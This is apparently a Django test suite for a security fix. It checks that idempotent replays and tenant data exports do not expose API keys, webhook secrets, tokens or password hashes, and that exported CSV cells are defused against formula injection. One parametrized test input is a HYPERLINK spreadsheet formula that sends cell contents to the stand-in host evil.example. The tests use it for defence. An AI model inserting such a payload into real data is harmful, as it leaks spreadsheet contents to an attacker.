"""Security issue #15, data items: no secrets at rest in idempotency records or in the tenant
export, formulas defused in every CSV, and one CSV writer for the whole product."""

from __future__ import annotations

import ast
import csv
import io
import pathlib
import re
import zipfile

import pytest
from allauth.mfa.models import Authenticator
from django.core import mail

from prm.csv_export import FORMULA_START, PLAIN_NUMBER
from prm.models import IdempotencyRecord
from prm.tenancy import tenant_context
from tenantdata import services as tenant_data
from tenantdata.models import TenantExport
from tenantdata.tasks import build_tenant_export
from tests.conftest import api_client, portal_client
from tests.factories import AuthenticatorFactory

pytestmark = pytest.mark.django_db

ROOT = pathlib.Path(__file__).resolve().parents[2]


# --- Idempotency records keep no secret ---------------------------------------------------


def _all_idempotency_bodies(tenant) -> str:
    with tenant_context(tenant):
        return repr(list(IdempotencyRecord.objects.values_list("response_body", flat=True)))


def test_a_replayed_api_key_creation_does_not_hand_out_the_key_again(world):
    client = api_client(world.tenant, world.admin)
    body = {"name": "ci", "scopes": ["read"]}
    first = client.post("/api/v1/api-keys/", body, format="json", HTTP_IDEMPOTENCY_KEY="k-key")
    assert first.status_code == 201
    key = first.json()["key"]
    assert key.startswith("prm_")
    replay = client.post("/api/v1/api-keys/", body, format="json", HTTP_IDEMPOTENCY_KEY="k-key")
    assert replay.status_code == 201
    assert replay["Idempotent-Replayed"] == "true"
    assert replay["Idempotent-Redacted"] == "key"
    data = replay.json()
    assert data["key"] is None and data["secret_replayed"] is False
    assert data["id"] == first.json()["id"] and data["prefix"] == first.json()["prefix"]
    assert key not in replay.content.decode()
    assert key not in _all_idempotency_bodies(world.tenant)


def test_a_replayed_webhook_creation_or_rotation_does_not_hand_out_the_signing_secret(world):
    client = api_client(world.tenant, world.admin)
    body = {"url": "https://hooks.example.com/prm", "event_types": ["deal.approved"]}
    first = client.post(
        "/api/v1/webhook-endpoints/", body, format="json", HTTP_IDEMPOTENCY_KEY="k-hook"
    )
    assert first.status_code == 201, first.content
    secret = first.json()["secret"]
    replay = client.post(
        "/api/v1/webhook-endpoints/", body, format="json", HTTP_IDEMPOTENCY_KEY="k-hook"
    )
    assert replay["Idempotent-Redacted"] == "secret"
    assert replay.json()["secret"] is None and replay.json()["secret_replayed"] is False
    path = f"/api/v1/webhook-endpoints/{first.json()['id']}/rotate-secret/"
    rotated = client.post(path, HTTP_IDEMPOTENCY_KEY="k-rotate")
    new_secret = rotated.json()["secret"]
    assert new_secret and new_secret != secret
    again = client.post(path, HTTP_IDEMPOTENCY_KEY="k-rotate")
    assert again.json()["secret"] is None and again["Idempotent-Replayed"] == "true"
    stored = _all_idempotency_bodies(world.tenant)
    assert secret not in stored and new_secret not in stored


def test_a_replay_without_secrets_is_unchanged(world):
    client = api_client(world.tenant, world.admin)
    body = {"email": "plain@example.com", "role": "channel_manager"}
    first = client.post("/api/v1/invitations/", body, format="json", HTTP_IDEMPOTENCY_KEY="k")
    second = client.post("/api/v1/invitations/", body, format="json", HTTP_IDEMPOTENCY_KEY="k")
    assert first.json() == second.json()
    assert "Idempotent-Redacted" not in second


SECRET_NAME = re.compile(r"(^|_)(key|secret|token|password|recovery_codes?)$")


def test_every_api_write_answering_with_a_secret_declares_it(world):
    """A POST whose documented answer has a secret-looking field must name it in its view's
    `secret_fields`, or an idempotent replay (and its stored record) would carry it."""
    from django.urls import resolve

    schema = api_client(world.tenant, world.admin).get("/api/v1/schema/", {"format": "json"})
    schema = schema.json()
    components = schema["components"]["schemas"]
    found, undeclared = [], []
    for path, ops in schema["paths"].items():
        if "post" not in ops:
            continue
        view = resolve(re.sub(r"\{[^}]+\}", "1", path)).func
        declared = set(getattr(getattr(view, "cls", None), "secret_fields", ()))
        for answer in ops["post"]["responses"].values():
            ref = answer.get("content", {}).get("application/json", {}).get("schema", {})
            props = components.get(ref.get("$ref", "").rsplit("/", 1)[-1], {}).get("properties", {})
            for name in props:
                if SECRET_NAME.search(name):
                    found.append(f"{path} {name}")
                    if name not in declared:
                        undeclared.append(f"{path} {name}")
    assert undeclared == []
    assert "/api/v1/api-keys/ key" in found  # the check sees the known secrets


# --- The tenant export holds no secret ----------------------------------------------------


def test_every_secret_looking_column_of_an_exported_table_is_classified():
    assert tenant_data.unclassified_columns() == []


def test_the_classification_catches_a_new_secret_looking_column():
    from django.db import models

    field = models.CharField(max_length=10)
    field.set_attributes_from_name("reset_token")
    model = tenant_data.tenant_models()[0]
    assert tenant_data.SECRET_LOOKING.search(field.name)
    assert not tenant_data.is_secret(model, field)
    assert f"{model._meta.db_table}.reset_token" not in tenant_data.NOT_SECRET_COLUMNS


def _download_export(world, django_capture_on_commit_callbacks) -> zipfile.ZipFile:
    client = portal_client(world.tenant, world.admin)
    resp = client.post("/tenant-data/exports/")
    assert resp.status_code in (200, 302)
    with tenant_context(world.tenant):
        export = TenantExport.objects.latest("pk")
    with django_capture_on_commit_callbacks(execute=True):
        build_tenant_export.apply(kwargs={"tenant_id": world.tenant.pk, "export_id": export.pk})
    resp = client.get(f"/tenant-data/exports/{export.pk}/download/")
    assert resp.status_code == 200
    return zipfile.ZipFile(io.BytesIO(b"".join(resp.streaming_content)))


def test_the_tenant_export_contains_no_secret_of_any_table(
    world, django_capture_on_commit_callbacks
):
    client = api_client(world.tenant, world.admin)
    created = client.post(
        "/api/v1/api-keys/",
        {"name": "leak?", "scopes": ["read"]},
        format="json",
        HTTP_IDEMPOTENCY_KEY="export-key",
    ).json()
    hook = client.post(
        "/api/v1/webhook-endpoints/",
        {"url": "https://hooks.example.com/x", "event_types": ["deal.approved"]},
        format="json",
        HTTP_IDEMPOTENCY_KEY="export-hook",
    ).json()
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        invited = client.post(
            "/api/v1/invitations/",
            {"email": "invitee@example.com", "role": "channel_manager"},
            format="json",
            HTTP_IDEMPOTENCY_KEY="export-invite",
        )
    assert invited.status_code == 201
    (invite_mail,) = [m for m in mail.outbox if "invitee@example.com" in m.to]
    invite_token = re.search(r"/invitations/([\w-]{20,})/", invite_mail.body).group(1)
    totp = AuthenticatorFactory(
        user=world.admin.user, type=Authenticator.Type.TOTP, data={"secret": "JBSWY3DPEHPK3PXQ"}
    )
    codes = AuthenticatorFactory(
        user=world.admin.user,
        type=Authenticator.Type.RECOVERY_CODES,
        data={"seed": "f00dfacecafe1234deadbeef", "used_mask": 0},
    )
    user = world.admin.user
    user.set_password("correct horse battery staple")
    user.save(update_fields=["password"])
    with tenant_context(world.tenant):
        from integrations.models import WebhookEndpoint
        from prm.models import ApiKey, Invitation

        key_hash = ApiKey.objects.get(pk=created["id"]).key_hash
        token_hash = Invitation.objects.get(email="invitee@example.com").token_hash
        webhook_secret = WebhookEndpoint.objects.get(pk=hook["id"]).secret

    zf = _download_export(world, django_capture_on_commit_callbacks)
    text = "\n".join(zf.read(n).decode() for n in zf.namelist())
    secrets = {
        "api key": created["key"],
        "api key hash": key_hash,
        "webhook secret": webhook_secret,
        "invitation token": invite_token,
        "invitation token hash": token_hash,
        "totp secret": totp.data["secret"],
        "recovery seed": codes.data["seed"],
        "password hash": user.password,
    }
    leaked = [name for name, value in secrets.items() if value and value in text]
    assert leaked == []
    header = next(csv.reader(io.StringIO(zf.read("prm_idempotencyrecord.csv").decode())))
    assert "response_body" not in header and "key" not in header


# --- One CSV writer; formulas defused in the tenant export ---------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_typed_into_the_program_is_defused_in_the_tenant_export(
    world, django_capture_on_commit_callbacks, start
):
    payload = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
    # Typed into a form field (leading blanks are trimmed there) and sent as the browser's
    # User-Agent (kept verbatim in the audit trail).
    client = api_client(world.tenant, world.admin)
    named = client.post(
        "/api/v1/webhook-endpoints/",
        {"url": "https://hooks.example.com/y", "event_types": ["deal.approved"],
         "description": payload},
        format="json",
        HTTP_USER_AGENT=payload,
    )  # fmt: skip
    assert named.status_code == 201, named.content
    zf = _download_export(world, django_capture_on_commit_callbacks)
    cells = [
        cell
        for name in ("prm_webhookendpoint.csv", "prm_auditevent.csv")
        for row in csv.reader(io.StringIO(zf.read(name).decode(), newline=""))
        for cell in row
    ]
    assert "'" + payload in cells  # the audit trail's user agent
    formulas = [c for c in cells if c[:1] in FORMULA_START and not PLAIN_NUMBER.fullmatch(c)]
    assert formulas == []


def _product_modules():
    skip = {"tests", ".venv", "bench", "node_modules", ".data"}
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in skip or "migrations" in rel.parts:
            continue
        yield rel, path


def test_no_product_module_writes_csv_except_the_one_writer():
    offenders = []
    for rel, path in _product_modules():
        if str(rel) == "prm/csv_export.py":
            continue
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{rel}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                if any(a.name in ("writer", "DictWriter") for a in node.names):
                    offenders.append(f"{rel}:{node.lineno}")
    assert offenders == []


# --- List exports stream, in the tenant's scope, with a row cap ----------------------------


def _csv_rows(resp) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(resp.streaming_content).decode())))


def test_a_streamed_export_reads_its_rows_after_the_view_inside_the_tenant(
    world, stranger, django_assert_max_num_queries
):
    from tests.factories import PartnerFactory

    for i in range(5):
        PartnerFactory(tenant=world.tenant, name=f"own streamed {i}")
        PartnerFactory(tenant=stranger.tenant, name=f"stranger streamed {i}")
    client = portal_client(world.tenant, world.channel_manager)
    with django_assert_max_num_queries(40) as during_view:
        resp = client.get("/partners/export.csv")
    assert resp.streaming
    # The view selected ids only: no partner row was read yet.
    read = [  # a query that selects partners' names (not just orders by them)
        q["sql"]
        for q in during_view.captured_queries
        if 'FROM "partners_partner"' in q["sql"] and '"partners_partner"."legal_name"' in q["sql"]
    ]
    assert read == []
    rows = _csv_rows(resp)  # read now, after the request's transaction has ended
    names = [r[1] for r in rows[1:]]
    assert sorted(n for n in names if "streamed" in n) == [f"own streamed {i}" for i in range(5)]
    assert not [n for n in names if "stranger" in n]
    assert world.partner.name in names and stranger.partner.name not in names
    assert "X-Export-Truncated" not in resp


def test_an_export_over_the_row_cap_is_truncated_and_says_so(world, settings, monkeypatch):
    from prm import csv_export
    from tests.factories import PartnerFactory

    for i in range(6):
        PartnerFactory(tenant=world.tenant, name=f"capped {i}")
    settings.PRM_CSV_EXPORT_MAX_ROWS = 4
    monkeypatch.setattr(csv_export, "CHUNK_ROWS", 3)  # two chunks, each its own transaction
    resp = portal_client(world.tenant, world.channel_manager).get("/partners/export.csv")
    assert resp["X-Export-Truncated"] == "4"
    rows = _csv_rows(resp)
    assert len(rows) == 1 + 4 + 1
    assert rows[-1][0].startswith("# Export truncated") and "4" in rows[-1][0]
    with tenant_context(world.tenant):
        from prm.models import AuditEvent

        assert AuditEvent.objects.get(action="partners.exported").after["rows"] == 4


def test_a_streamed_export_skips_rows_deleted_before_they_are_read(world):
    from partners.models import Partner
    from tests.factories import PartnerFactory

    gone = PartnerFactory(tenant=world.tenant, name="deleted meanwhile")
    resp = portal_client(world.tenant, world.channel_manager).get("/partners/export.csv")
    with tenant_context(world.tenant):
        Partner.objects.filter(pk=gone.pk).delete()
    names = [r[1] for r in _csv_rows(resp)[1:]]
    assert "deleted meanwhile" not in names and world.partner.name in names
